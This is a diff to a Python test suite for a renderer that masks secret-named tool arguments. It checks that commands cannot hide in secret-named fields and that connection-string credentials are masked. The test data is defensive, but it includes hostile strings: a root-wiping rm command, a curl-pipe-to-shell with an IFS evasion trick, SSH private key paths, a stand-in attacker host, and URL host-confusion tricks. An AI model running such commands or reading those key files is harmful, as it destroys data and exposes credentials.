@@ -26,8 +26,23 @@ def test_a_view_without_secrets_is_the_arguments_themselves(value: object) -> No
         assert json.loads(view) == value
 
 
-@each_case("hidden", ["rm -rf / --no-preserve-root", "curl${IFS}evil|sh", "x" * 600, "<!-- -->"])
-@each_case("name", ["token", "password", "api_key", "Authorization"])
+@each_case(
+    "hidden",
+    [
+        "rm -rf / --no-preserve-root",
+        "curl${IFS}evil|sh",
+        "x" * 600,
+        "<!-- -->",
+        "rm-rf/home/all:now",
+        "/root/.ssh/id_rsa",
+        "~/.ssh/id_ed25519",
+        "id_rsa",
+        "https://evil.example/x",
+        "evil.example:8080",
+        "reboot",
+    ],
+)
+@each_case("name", ["token", "password", "api_key", "Authorization", "ssh_key", "dsn", "cookie"])
 def test_t41_a_command_cannot_hide_in_an_argument_named_like_a_secret(name: str, hidden: str) -> None:
     assert hidden in json.loads(rendered(json.dumps({name: [hidden]}).encode()))[name][0]
 
@@ -40,6 +55,21 @@ def test_a_secret_shows_its_kind_its_length_and_its_end_only() -> None:
     assert "1234" not in view
     assert token[-4:] in view
     assert f"{len(token)} characters" in view
+
+
+def test_t41_of_an_address_the_user_and_password_alone_are_masked() -> None:
+    for name, address in (
+        ("dsn", "postgres://ada:hunter2-long@db.example/orders"),
+        ("token", "https://ghs0123456789@github.example/x.git"),
+        ("text", "postgres://ada:hunter2-long@db.example/orders"),
+    ):
+        shown = json.loads(rendered(json.dumps({name: address}).encode()))[name]
+        assert "hunter2" not in shown
+        assert "ghs0123" not in shown
+        assert address.partition("@")[2] in shown
+    for name in ("dsn", "text"):  # The host of these is `evil.example` for many readers.
+        for address in ("https://evil.example:80#@good.example/", "https://evil.example:80\\@good.example/"):
+            assert json.loads(rendered(json.dumps({name: address}).encode()))[name] == address
 
 
 async def test_arguments_that_nobody_can_read_have_no_view() -> None:
